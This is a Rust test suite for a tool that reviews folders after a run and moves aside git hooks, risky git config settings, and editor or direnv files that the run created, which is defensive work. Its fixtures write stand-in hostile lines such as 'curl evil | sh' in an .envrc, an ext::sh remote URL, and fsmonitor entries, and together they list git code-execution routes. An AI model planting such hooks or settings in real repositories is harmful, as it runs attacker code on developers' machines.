use super::*;
use config::READ_CAP;
use std::os::unix::fs::PermissionsExt;

/// A scratch writable root, and a review of it whose run starts once `start` is called:
/// everything made before that is "before the run".
struct Scratch {
    root: PathBuf,
}

impl Scratch {
    fn new(tag: &str) -> Scratch {
        let root =
            Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("../../target/gitcheck-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(&root).unwrap();
        Scratch { root: root.canonicalize().unwrap() }
    }

    fn path(&self, rel: &str) -> PathBuf {
        assert!(Path::new(rel).is_relative(), "{rel} would leave the scratch folder");
        self.root.join(rel)
    }

    fn write(&self, rel: &str, text: &str) {
        let path = self.path(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn mkdir(&self, rel: &str) {
        std::fs::create_dir_all(self.path(rel)).unwrap();
    }

    fn exists(&self, rel: &str) -> bool {
        std::fs::symlink_metadata(self.path(rel)).is_ok()
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.path(rel)).unwrap()
    }

    /// Starts the run: what exists now is older than the run, beyond the slack.
    fn start(&self, skip: &[&str]) -> Review {
        std::thread::sleep(std::time::Duration::from_millis(60));
        let protected = ringfence_policy::profile::PROTECTED_IN_WRITE_ROOTS
            .iter()
            .chain(ringfence_policy::profile::PROTECTED_WHILE_PRESENT)
            .filter(|n| !n.starts_with(".git/"))
            .map(PathBuf::from)
            .collect();
        let mut skip: Vec<PathBuf> = skip.iter().map(|s| self.path(s)).collect();
        skip.sort();
        let placeholders = vec![self.path(".git/config")];
        Review {
            roots: vec![self.root.clone()],
            skip,
            placeholders,
            protected,
            home: self.path("home"),
            start: RunClock::now(),
        }
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

/// A git directory skeleton, as `git init` makes it.
fn git_dir(s: &Scratch, rel: &str) {
    let at = |name: &str| Path::new(rel).join(name).to_string_lossy().into_owned();
    s.write(&at("HEAD"), "ref: refs/heads/main\n");
    s.mkdir(&at("objects/pack"));
    s.mkdir(&at("refs/heads"));
    s.write(&at("hooks/pre-commit.sample"), "#!/bin/sh\n");
    s.write(&at("config"), "[core]\n\trepositoryformatversion = 0\n\tbare = false\n");
}

fn rules(report: &ReviewReport) -> Vec<(String, &'static str)> {
    report.findings.iter().map(|f| (f.path.file_name().unwrap().to_string_lossy().into_owned(), f.rule)).collect()
}

#[test]
fn a_new_repository_loses_its_hooks_and_risky_config() {
    let s = Scratch::new("new");
    let review = s.start(&[]);
    git_dir(&s, ".git");
    s.write(".git/hooks/pre-commit", "#!/bin/sh\nevil\n");
    s.write(".git/config", "[core] fsmonitor = evil\n\tbare = false\n");
    let report = review.run();
    assert!(report.failures.is_empty(), "{report:?}");
    assert_eq!(report.findings.len(), 2, "{report:?}");
    assert!(!s.exists(".git/hooks/pre-commit"));
    assert!(s.exists(&format!(".git/hooks/pre-commit{}", fsops::QUARANTINE_SUFFIX)));
    assert!(s.exists(".git/hooks/pre-commit.sample"));
    // The config stays, with only its harmless settings; the original is kept aside.
    assert_eq!(s.read(".git/config"), "[core]\n\tbare = false\n");
    assert!(report.findings.iter().any(|f| f.detail.contains("core.fsmonitor")));
    // A second review finds nothing more: what it left is harmless.
    assert!(review.run().findings.is_empty());
}

#[test]
fn an_existing_repository_keeps_what_was_there() {
    let s = Scratch::new("old");
    git_dir(&s, ".git");
    git_dir(&s, ".git/modules/sub");
    s.write(".git/modules/sub/hooks/post-checkout", "x");
    s.write("sub/.git", "gitdir: ../.git/modules/sub\n");
    s.write("pkg/.envrc", "use nix\n");
    // The top-level hooks and config are read-only in the view: the review leaves them alone.
    let review = s.start(&[".git/hooks", ".git/config"]);
    assert!(review.run().findings.is_empty());
    s.write(".git/modules/sub/hooks/pre-push", "x");
    s.write(".git/modules/sub/config", "[core]\n\tbare = false\n\tfsmonitor = x\n");
    s.write(".git/commondir", "../elsewhere");
    s.write(".git/config", "[alias]\n\tx = !sh\n");
    s.write(".git/hooks/post-merge", "x");
    let report = review.run();
    let mut found = rules(&report);
    found.sort();
    // The hooks folder changed, so every hook in it is moved aside, the user's too.
    let expected = [("commondir", GIT), ("config", GIT), ("post-checkout", GIT), ("pre-push", GIT)];
    assert_eq!(found, expected.map(|(n, r)| (n.to_string(), r)), "{report:?}");
    assert!(s.exists(".git/hooks/post-merge") && s.exists("pkg/.envrc"));
}

#[test]
fn links_are_moved_never_followed() {
    let s = Scratch::new("links");
    let outside = Scratch::new("links-outside");
    outside.write("tool", "keep");
    let review = s.start(&[]);
    git_dir(&s, ".git/modules/x");
    std::fs::remove_dir_all(s.path(".git/modules/x/hooks")).unwrap();
    std::os::unix::fs::symlink(&outside.root, s.path(".git/modules/x/hooks")).unwrap();
    std::os::unix::fs::symlink(outside.path("tool"), s.path(".git/modules/x/info")).unwrap();
    let report = review.run();
    assert_eq!(rules(&report), [("hooks".to_string(), GIT), ("info".to_string(), GIT)], "{report:?}");
    let mode = std::fs::metadata(outside.path("tool")).unwrap().permissions().mode() & 0o777;
    assert_eq!((outside.read("tool").as_str(), mode), ("keep", 0o644));
}

#[test]
fn a_linked_or_pointing_dot_git_and_a_bare_root_are_caught() {
    let s = Scratch::new("bare");
    s.mkdir("real");
    let review = s.start(&[]);
    s.mkdir("a");
    std::os::unix::fs::symlink("../real", s.path("a/.git")).unwrap();
    s.write("b/.git", "gitdir: /etc\n");
    s.write("c/.git", "gitdir: ../.git/modules/c\n");
    git_dir(&s, ".git/modules/c");
    git_dir(&s, "");
    s.write("config", "\u{feff}[core] pager = evil\n");
    let report = review.run();
    let mut found = rules(&report);
    found.sort();
    let expected = [(".git", GIT), (".git", GIT), ("config", GIT)].map(|(n, r)| (n.to_string(), r));
    assert_eq!(found, expected, "{report:?}");
    assert!(!s.exists("a/.git") && !s.exists("b/.git") && s.exists("c/.git"));
    assert_eq!(s.read("config"), "");
}

#[test]
fn oversized_configs_and_special_files_are_moved_aside() {
    let s = Scratch::new("odd");
    s.mkdir("old");
    nix::unistd::mkfifo(&s.path("old/fifo"), Mode::from_bits_truncate(0o644)).unwrap();
    let review = s.start(&[]);
    git_dir(&s, ".git/modules/a");
    let mut big = b"[core]\n\tbare = false\n".to_vec();
    big.resize(READ_CAP as usize + 10, b'#');
    std::fs::write(s.path(".git/modules/a/config.worktree"), &big).unwrap();
    std::fs::remove_file(s.path(".git/modules/a/config")).unwrap();
    nix::unistd::mkfifo(&s.path(".git/modules/a/config"), Mode::from_bits_truncate(0o644)).unwrap();
    for fifo in ["src/.gitignore", ".git/modules/a/objects/pack/x.idx"] {
        s.mkdir(Path::new(fifo).parent().unwrap().to_str().unwrap());
        nix::unistd::mkfifo(&s.path(fifo), Mode::from_bits_truncate(0o644)).unwrap();
    }
    let _socket = std::os::unix::net::UnixListener::bind(s.path("src/dev.sock")).unwrap();
    // A review that opened a FIFO for reading would block here forever.
    let report = review.run();
    let mut found = rules(&report);
    found.sort();
    let expected = [(".gitignore", SPECIAL), ("config", GIT), ("config.worktree", GIT), ("x.idx", SPECIAL)];
    assert_eq!(found, expected.map(|(n, r)| (n.to_string(), r)), "{report:?}");
    assert!(report.findings.iter().any(|f| f.detail.contains("too large")));
    assert!(s.exists("old/fifo") && s.exists("src/dev.sock"), "what was there and sockets stay");
}

#[test]
fn submodules_with_slashes_worktrees_and_their_pointers_are_reviewed() {
    let s = Scratch::new("nested");
    git_dir(&s, ".git");
    git_dir(&s, ".git/modules/vendor/lib");
    let review = s.start(&[]);
    s.write(".git/modules/vendor/lib/hooks/post-checkout", "evil");
    // What `git worktree add wt` writes survives; a commondir elsewhere does not.
    s.write(".git/worktrees/wt/HEAD", "ref: refs/heads/wt\n");
    s.write(".git/worktrees/wt/commondir", "../..\n");
    s.write("wt/.git", &format!("gitdir: {}\n", s.path(".git/worktrees/wt").display()));
    git_dir(&s, "sub/.git");
    s.write("sub/.git/commondir", "../../evil\n");
    git_dir(&s, "evil");
    std::fs::remove_file(s.path("evil/HEAD")).unwrap();
    s.write("evil/config", "[core]\n\tfsmonitor = evil\n");
    let report = review.run();
    let mut found = rules(&report);
    found.sort();
    let expected = [("commondir", GIT), ("post-checkout", GIT)].map(|(n, r)| (n.to_string(), r));
    assert_eq!(found, expected, "{report:?}");
    assert!(s.exists(".git/worktrees/wt/commondir") && s.exists("wt/.git"));
    // The folder a worktree's commondir names is reviewed as a git directory, HEAD or not.
    s.write(".git/worktrees/wt/commondir", "../../../evil\n");
    s.write("evil/config", "[core]\n\tfsmonitor = evil\n");
    let report = review.run();
    assert_eq!(rules(&report), [("config".to_string(), GIT)], "{report:?}");
    assert_eq!(s.read("evil/config"), "");
}

#[test]
fn a_submodule_keeps_its_worktree_and_nothing_else_gets_one() {
    let s = Scratch::new("worktree");
    git_dir(&s, ".git");
    let review = s.start(&[]);
    for name in ["lib", "evil"] {
        git_dir(&s, &format!(".git/modules/{name}"));
        s.write(&format!(".git/modules/{name}/config"), "[core]\n\tbare = false\n\tworktree = ../../../lib\n");
    }
    s.write("lib/.git", "gitdir: ../.git/modules/lib\n");
    let report = review.run();
    assert_eq!(rules(&report), [("config".to_string(), GIT)], "{report:?}");
    assert!(report.findings[0].path.ends_with(".git/modules/evil/config"), "{report:?}");
    assert!(s.read(".git/modules/lib/config").contains("worktree"));
}

#[test]
fn nested_protected_files_the_run_wrote_are_moved_aside() {
    let s = Scratch::new("protected");
    s.write("old/.vscode/tasks.json", "{}");
    s.write("old/.envrc", "use nix\n");
    let review = s.start(&[]);
    s.write("a/b/.envrc", "curl evil | sh\n");
    s.write("old/.vscode/settings.json", "{}");
    s.write("pkg/.idea/workspace.xml", "<x/>");
    s.write(".husky/pre-commit", "evil");
    s.write("empty/.envrc", "");
    s.mkdir("empty/.vscode");
    s.write("ok/notes.txt", "fine");
    let report = review.run();
    let mut found = rules(&report);
    found.sort();
    // The old .vscode folder changed, so its old entry is moved aside as well.
    let names = [".envrc", "pre-commit", "settings.json", "tasks.json", "workspace.xml"];
    assert_eq!(found, names.map(|n| (n.to_string(), PROTECTED)), "{report:?}");
    assert!(s.exists("old/.vscode") && s.exists("old/.envrc") && s.exists("ok/notes.txt"));
    assert!(s.exists("empty/.envrc") && s.exists("empty/.vscode"), "empty files run nothing");
}

#[test]
fn rebase_and_sequencer_state_the_run_touched_is_moved_aside() {
    let s = Scratch::new("state");
    git_dir(&s, ".git");
    git_dir(&s, "old/.git");
    s.write("old/.git/rebase-merge/git-rebase-todo", "pick 1 x\n");
    s.write("old/.git/rebase-merge/done", "");
    let review = s.start(&[".git/hooks", ".git/config"]);
    s.write(".git/sequencer/opts", "[options]\n\tstrategy = pwn\n");
    s.write("old/.git/rebase-merge/git-rebase-todo", "pick 1 x\nexec evil\n");
    s.write(".git/remotes/origin", "URL: ext::sh -c evil\n");
    let report = review.run();
    let mut found = rules(&report);
    found.sort();
    let expected = [("origin", GIT), ("rebase-merge", GIT), ("sequencer", GIT)].map(|(n, r)| (n.to_string(), r));
    assert_eq!(found, expected, "{report:?}");
    assert!(!s.exists("old/.git/rebase-merge") && !s.exists(".git/sequencer"));
}

#[test]
fn includes_and_hooks_paths_of_configs_the_run_did_not_write_are_followed() {
    let s = Scratch::new("includes");
    git_dir(&s, "sub/.git");
    s.write("sub/.git/config", "[include]\n\tpath = ../shared.cfg\n[core]\n\thooksPath = tools/hooks\n");
    s.write("sub/shared.cfg", "[user]\n\tname = me\n");
    s.write("sub/tools/hooks/pre-commit", "mine");
    let review = s.start(&[]);
    s.write("sub/shared.cfg", "[user]\n\tname = me\n[core]\n\tfsmonitor = evil\n");
    s.write("sub/tools/hooks/pre-push", "evil");
    let report = review.run();
    let mut found = rules(&report);
    found.sort();
    let expected = [("pre-commit", GIT), ("pre-push", GIT), ("shared.cfg", GIT)].map(|(n, r)| (n.to_string(), r));
    assert_eq!(found, expected, "{report:?}");
    assert_eq!(s.read("sub/shared.cfg"), "[user]\n\tname = me\n");
}

#[test]
fn hard_links_to_a_large_config_are_read_once() {
    let s = Scratch::new("links-once");
    let mut big = b"[core]\n\tbare = false\n".to_vec();
    big.resize(READ_CAP as usize, b'#');
    std::fs::write(s.path("big.cfg"), &big).unwrap();
    let review = s.start(&[]);
    let links = (MAX_BYTES / READ_CAP) as usize + 20;
    for i in 0..links {
        let dir = format!("r{i}/.git");
        s.mkdir(&dir);
        std::fs::hard_link(s.path("big.cfg"), s.path(&format!("{dir}/config"))).unwrap();
    }
    let report = review.run();
    assert!(report.failures.is_empty() && report.findings.is_empty(), "{report:?}");
}

#[test]
fn what_cannot_be_reviewed_is_a_failure() {
    let s = Scratch::new("bound");
    let review = s.start(&[]);
    let deep: Vec<String> = (0..=MAX_DEPTH + 1).map(|i| format!("d{i}")).collect();
    s.mkdir(&deep.join("/"));
    let report = review.run();
    assert_eq!(report.failures.len(), 1, "{report:?}");
    assert!(report.failures[0].detail.contains("folders deep"), "{report:?}");
}

#[test]
fn the_plans_own_placeholders_are_left_alone() {
    let s = Scratch::new("placeholder");
    s.mkdir(".git/hooks");
    let review = s.start(&[]);
    s.mkdir(".git/config");
    std::fs::set_permissions(s.path(".git/config"), std::fs::Permissions::from_mode(0o555)).unwrap();
    git_dir(&s, ".git/modules/x");
    std::fs::remove_file(s.path(".git/modules/x/config")).unwrap();
    s.mkdir(".git/modules/x/config");
    let report = review.run();
    // The same empty folder where the plan made none is not a placeholder.
    assert_eq!(rules(&report), [("config".to_string(), GIT)], "{report:?}");
    assert!(s.exists(".git/config") && !s.exists(".git/modules/x/config"));
    std::fs::set_permissions(s.path(".git/config"), std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn names_are_matched_whatever_their_case() {
    // In a case-insensitive folder, git opens `HOOKS/PRE-COMMIT` as `hooks/pre-commit`.
    let s = Scratch::new("case");
    let review = s.start(&[]);
    git_dir(&s, "sub/.GIT");
    s.write("sub/.GIT/HOOKS/PRE-COMMIT", "evil");
    s.write("pkg/.ENVRC", "evil");
    let report = review.run();
    let mut found = rules(&report);
    found.sort();
    assert_eq!(found, [(".ENVRC".to_string(), PROTECTED), ("PRE-COMMIT".to_string(), GIT)], "{report:?}");
}

#[test]
fn a_taken_quarantine_name_is_not_replaced() {
    let s = Scratch::new("taken");
    let review = s.start(&[]);
    s.mkdir(&format!("x/.envrc{}", fsops::QUARANTINE_SUFFIX));
    s.write("x/.envrc", "evil");
    let report = review.run();
    assert!(report.failures.is_empty(), "{report:?}");
    assert!(s.exists(&format!("x/.envrc{}.1", fsops::QUARANTINE_SUFFIX)) && !s.exists("x/.envrc"));
}
